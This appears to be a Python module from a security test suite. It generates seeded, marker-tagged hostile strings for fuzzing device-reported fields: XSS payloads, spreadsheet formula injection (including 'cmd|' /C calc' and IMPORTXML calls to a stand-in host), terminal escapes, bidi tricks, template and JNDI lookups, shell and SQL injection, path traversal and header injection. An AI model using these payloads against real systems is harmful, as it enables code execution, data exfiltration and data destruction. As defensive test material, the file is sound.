# SPDX-License-Identifier: Apache-2.0
"""Texts that somebody hostile writes into every column that a device can say.

Rules: families of shapes, filled and mixed by a seed, the same each time; each text has
its number in it, by which it is found again; one that a browser runs calls `fired`.
Not here: where they go (`sender.py`), what must not happen (`looking.py`).
"""

import re
from collections.abc import Iterator
from random import Random

MARK = "h{:05d}h"
"""How a text's number stands in it."""
MARKED = re.compile(r"h[0-9]{5}h")
SCRIPTS = (
    "<script>fired('{m}')</script>",
    "<img src=x onerror=fired('{m}')>",
    "\"><svg/onload=fired('{m}')>",
    "'><body onpageshow=fired('{m}')>",
    "<iframe srcdoc=\"<script>parent.fired('{m}')</script>\">",
    "javascript:fired('{m}')",
    "</script><script>fired('{m}')</script>",
    "</title><script>fired('{m}')</script>",
    "</textarea><img src=x onerror=fired('{m}')>",
    "' onmouseover='fired(\"{m}\")' autofocus onfocus='fired(\"{m}\")",
    "\" autofocus onfocus=\"fired('{m}')",
    "`-fired('{m}')-`",
    "<a href=javascript:fired('{m}')>x</a>",
    "<form action=javascript:fired('{m}')><input type=submit autofocus>",
    "<meta http-equiv=refresh content='0;url=javascript:fired(`{m}`)'>",
    "<base href=//elsewhere.example/{m}>",
    "<link rel=stylesheet href=//elsewhere.example/{m}>",
    "<style>@import '//elsewhere.example/{m}';</style>",
    "<math><mtext></p><script>fired('{m}')</script>",
    "<template><script>fired('{m}')</script></template>",
    "<details open ontoggle=fired('{m}')>",
    "<video><source onerror=fired('{m}')>",
    "&lt;script&gt;fired('{m}')&lt;/script&gt;",
    "&#60;img src=x onerror=fired('{m}')&#62;",
    "<!--><script>fired('{m}')</script>-->",
    "<![CDATA[<script>fired('{m}')</script>]]>",
    "<svg><animate onbegin=fired('{m}') attributeName=x dur=1s>",
)
FORMULAS = (
    '=HYPERLINK("//elsewhere.example/{m}","x")',
    "+cmd|' /C calc'!{m}",
    "-1+1+cmd|' /C calc'!{m}",
    "@SUM(1+1)*cmd|' /C calc'!{m}",
    "\t=1+1{m}",
    "\r=1+1{m}",
    "\n=1+1{m}",
    " =1+1{m}",
    "\uff1d1+1{m}",
    '"=1+1{m}',
    '=IMPORTXML(CONCAT("//elsewhere.example/",A1),"{m}")',
    ";=1+1{m}",
    "a,=1+1{m}",
    'a","=1+1{m}',
    "a\r\n=1+1{m}",
    "|calc{m}",
    "%0A=1+1{m}",
)
TERMINALS = (
    "\x1b[2J{m}",
    "\x1b]0;{m}\x07",
    "\x1b]8;;//elsewhere.example\x1b\\{m}\x1b]8;;\x1b\\",
    "\x1b[31m{m}\x1b[0m",
    "\x1b[1A\x1b[2K{m}",
    "\x9b31m{m}",
    "\x1bP1;1|{m}\x1b\\",
    "\x1b[6n{m}",
    "\x08\x08\x08{m}",
    "{m}\x7f",
    "\x0e{m}\x0f",
    "\x07{m}",
    "\x1b]52;c;{m}\x07",
)
TURNED = (
    "{m}\u202egpj.exe",
    "\u2066{m}\u2069\u2067x\u2069",
    "\u200f{m}\u200e",
    "{m}\u200b\u200c\u200d\ufeff",
    "\u202a\u202b\u202c\u202d{m}",
    "{m}\u0301\u0302\u0303" + "\u0489" * 40,
    "\u0430dm\u0456n {m}",
    "\U000e0041\U000e0042{m}",
    "{m}\u2028x\u2029y",
)
TEMPLATES = (
    "{{{{7*7}}}}{m}",
    "${{7*7}}{m}",
    "#{{7*7}}{m}",
    "<%= 7*7 %>{m}",
    "{{%print(7*7)%}}{m}",
    "{{0.__class__}}{m}",
    "{{look.name.__class__.__mro__}}{m}",
    "%s%n%x{m}",
    "%(name)s{m}",
    "${{jndi:ldap://elsewhere.example/{m}}}",
    "$(touch {m})",
    "`touch {m}`",
    "'; DROP TABLE devices; -- {m}",
    '" UNION SELECT 1 -- {m}',
    "../../../etc/passwd\x00{m}",
    "CON.{m}",
)
LINES = (
    'x\n{{"event": "forged", "level": "info", "m": "{m}"}}',
    'x\r\n{{"act": "forged", "m": "{m}"}}\r\n',
    "x\u2028forged {m}",
    "x\x85forged {m}",
    "x\x0bforged {m}\x0c",
    "x\n<14>1 2026-01-01T00:00:00Z h a - - - forged {m}",
    "x\x00forged {m}",
    "\ufffe{m}",
    "\r{m}",
    "{m}\n\n\n",
    "--{m}\r\nContent-Disposition: form-data\r\n\r\n",
    "x\r\nSet-Cookie: {m}=1\r\n\r\n<script>fired('{m}')</script>",
)
FAMILIES = {
    "script": SCRIPTS,
    "formula": FORMULAS,
    "terminal": TERMINALS,
    "turned": TURNED,
    "template": TEMPLATES,
    "line": LINES,
}
LARGE = 1_000_000
"""Characters of the largest one."""


def mark(number: int) -> str:
    """Return how a text's number stands in it."""
    return MARK.format(number)


def found_in(text: object) -> set[str]:
    """Return the marks that stand in a text."""
    return set(MARKED.findall(str(text)))


def cut(text: str, octets: int) -> str:
    """Return as much of a text as fits so many bytes."""
    return text.encode()[:octets].decode(errors="ignore")


def payload(number: int, seed: int) -> str:
    """Return one text: a shape of a family, or two of them, with something around."""
    draw = Random(f"hostile {seed} {number}")  # noqa: S311 - repeats itself
    families = list(FAMILIES)
    shapes = [draw.choice(FAMILIES[families[number % len(families)]])]
    if draw.random() < 1 / 3:
        shapes.append(draw.choice(FAMILIES[draw.choice(families)]))
    text = draw.choice(("", " ", "'")).join(
        one.format(m=mark(number)) for one in shapes
    )
    if draw.random() < 1 / 8:
        text = f"{text}\n{text}"
    if draw.random() < 1 / 8:
        text += "A" * draw.choice((100, 1_000, 4_000))
    return text


def payloads(count: int, seed: int, first: int = 0) -> Iterator[str]:
    """Yield so many texts; of each family, one after the other.

    Args:
        count: of texts.
        seed: of the corpus.
        first: number of the first.
    """
    return (payload(number, seed) for number in range(first, first + count))


def large(seed: int) -> str:
    """Return a text of a million characters, as a host's name that nobody has."""
    return "".join(payload(number, seed) for number in range(LARGE // 20))[:LARGE]
